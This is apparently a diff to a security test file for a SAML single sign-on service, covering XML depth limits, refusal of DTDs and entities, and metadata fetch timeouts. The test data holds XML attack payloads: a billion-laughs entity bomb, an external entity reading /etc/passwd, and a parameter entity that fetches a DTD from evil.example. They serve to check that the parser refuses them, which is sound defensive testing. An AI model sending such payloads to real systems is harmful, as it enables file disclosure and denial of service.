@@ -11,21 +11,25 @@
  * - SuperTokens metadataXML over 512 KiB, with a DOCTYPE, an external entity or nested entities:
  *   test/supertokens/bad-input.test.ts, "answers 400 for metadata larger than 512 KiB, and changes nothing" (and siblings).
  * - SuperTokens redirectURIs over 50 and clientId over 255: test/supertokens/bad-input.test.ts, "answers 400 for more than 50 redirect URIs ...".
- * - Metadata URL body over the cap, and Clerk create timing out on it: test/clerk/metadata-url.test.ts,
- *   "returns 400 saml_failed_to_fetch_idp_metadata for a body over the size cap / a host that does not answer in time".
+ * - Metadata URL body over the cap, and the fetcher timing out: test/clerk/metadata-url.test.ts,
+ *   "returns 400 saml_failed_to_fetch_idp_metadata for a body over the size cap" and "gives up on a host that does not answer within the timeout".
  * - Engine-level byte and depth boundaries: test/saml/metadata.security.test.ts and test/saml/response.security.test.ts ("too-large").
  * - Clerk list limit=0/501, offset=-1: test/clerk/list.test.ts, "returns 400 invalid_query_parameter_value for out-of-range ...".
  */
-import { SELF } from 'cloudflare:test'
+import { env, SELF } from 'cloudflare:test'
 import { describe, expect, it } from 'vitest'
 import { MAX_BODY_BYTES } from '../../src/http/middleware/body'
-import { MAX_METADATA_BYTES, MAX_SAML_RESPONSE_BYTES, MAX_XML_DEPTH, METADATA_FETCH_TIMEOUT_MS } from '../../src/saml/limits'
+import { MAX_METADATA_BYTES, MAX_SAML_RESPONSE_BYTES, MAX_XML_DEPTH } from '../../src/saml/limits'
+import { makeMetadataFetcher } from '../../src/services/metadata-fetcher'
+import { updateConnection } from '../../src/services/saml-connections'
+import { buildDeps } from '../../src/wiring/deps'
 import { clerkClient, connectionInput, newInstance } from '../helpers/clerk'
 import { idpCertPem } from '../helpers/keys'
 import { activeConnection, APP_CALLBACK } from '../helpers/sso'
 import { base64, clientBody, idpMetadataXml, newApp, newTenantId, stClient } from '../supertokens/helpers'
 import { base64OfText } from './arbitraries'
-import { snapshotInstance } from '../helpers/store'
+import { assertionIdsOf, snapshotInstance } from '../helpers/store'
+import { METADATA_ORIGIN } from '../helpers/outbound'
 import { captureLogs, expectBrowserError, expectClerkError, ORIGIN, send, type Answer } from './wire'
 
 const logs = captureLogs()
@@ -205,36 +209,36 @@ describe(`XML depth (${MAX_XML_DEPTH} nested elements)`, () => {
     expect([stDeep.status, stDeep.text]).toEqual([400, 'metadataXML does not have a valid SAML metadata\n'])
   })
 
-  it('refuses a SAMLResponse nested past the limit as too_deep, at once', async () => {
+  it('refuses a SAMLResponse nested past the limit as too_deep, and reserves nothing', async () => {
     const { connection } = await activeConnection({ allow_idp_initiated: true })
     // The root counts as one level; 30,000 levels still fit under the size cap.
     for (const depth of [MAX_XML_DEPTH, 30_000]) {
       const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</samlp:Response>`
       const value = base64OfText(xml)
       logs.take()
-      const started = Date.now()
       const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
       expectBrowserError(a, 'html')
+      // The parser's depth check is what refused it, not a later step that walked the whole tree.
       expect([a.status, loggedReason()], `depth ${depth}`).toEqual([400, 'too_deep'])
-      expect(Date.now() - started).toBeLessThan(2_000)
     }
+    expect(await assertionIdsOf(connection.id)).toEqual([])
   })
 })
 
 describe('DTDs and entities', () => {
   const lolz = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`
 
-  it('refuses a SAMLResponse with entity expansion, an external entity or a parameter entity as dtd_forbidden, at once', async () => {
+  it('refuses a SAMLResponse with entity expansion, an external entity or a parameter entity as dtd_forbidden, and reserves nothing', async () => {
     const { connection } = await activeConnection({ allow_idp_initiated: true })
     for (const doctype of [lolz, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>']) {
       const xml = `<?xml version="1.0"?>${doctype}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">&lol9;&xxe;</samlp:Response>`
       logs.take()
-      const started = Date.now()
       const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }, body: new URLSearchParams({ SAMLResponse: base64OfText(xml) }).toString() })
       expectBrowserError(a, 'json')
+      // Refused for the DOCTYPE itself, before any entity is expanded or fetched.
       expect([a.status, a.json.error, loggedReason()]).toEqual([400, 'invalid_saml_response', 'dtd_forbidden'])
-      expect(Date.now() - started).toBeLessThan(2_000)
     }
+    expect(await assertionIdsOf(connection.id)).toEqual([])
   })
 
   it('refuses entity expansion in metadata on update too, and changes nothing', async () => {
@@ -250,20 +254,26 @@ describe('DTDs and entities', () => {
 })
 
 describe('metadata fetch timeout', () => {
-  it(`gives up on a slow IdP after ${METADATA_FETCH_TIMEOUT_MS} ms on update: 400 saml_failed_to_fetch_idp_metadata, nothing changed`, async () => {
+  // The deployed timeout is METADATA_FETCH_TIMEOUT_MS; the update runs with a short one injected
+  // through Deps, so the test IdP's late answer (8 s) is refused without waiting for it.
+  it('gives up on a slow IdP on update: idp_metadata_fetch_failed, nothing changed', async () => {
+    const { instanceId, secretKey } = await newInstance()
+    const { id } = (await clerkClient(secretKey).create(connectionInput({ idp_entity_id: 'https://idp.example.com/kept' }))).body
+    const before = await snapshotInstance(instanceId)
+    const deps = { ...buildDeps(env, 'req_timeout_test'), fetchMetadata: makeMetadataFetcher((input, init) => fetch(input, init), true, 50) }
+    await expect(updateConnection(deps, instanceId, id, { idpMetadataUrl: `${METADATA_ORIGIN}/slow` })).rejects.toMatchObject({ code: 'idp_metadata_fetch_failed' })
+    expect(await snapshotInstance(instanceId)).toEqual(before)
+  })
+
+  it('answers a failed fetch on update with 400 saml_failed_to_fetch_idp_metadata, nothing changed', async () => {
     const { instanceId, secretKey } = await newInstance()
     const api = clerkClient(secretKey)
     const { id } = (await api.create(connectionInput({ idp_entity_id: 'https://idp.example.com/kept' }))).body
     const before = await snapshotInstance(instanceId)
-    const started = Date.now()
-    const res = await api.update(id, { idp_metadata_url: 'https://idp-metadata.test/slow' })
-    const elapsed = Date.now() - started
+    const res = await api.update(id, { idp_metadata_url: `${METADATA_ORIGIN}/missing` })
     expect([res.status, res.body.errors[0].code]).toEqual([400, 'saml_failed_to_fetch_idp_metadata'])
-    // The test IdP answers after 8 s; the refusal comes from our own timeout, not from its answer.
-    expect(elapsed).toBeGreaterThanOrEqual(METADATA_FETCH_TIMEOUT_MS - 50)
-    expect(elapsed).toBeLessThan(8_000)
     expect(await snapshotInstance(instanceId)).toEqual(before)
-  }, 15_000)
+  })
 })
 
 describe('field and query caps', () => {
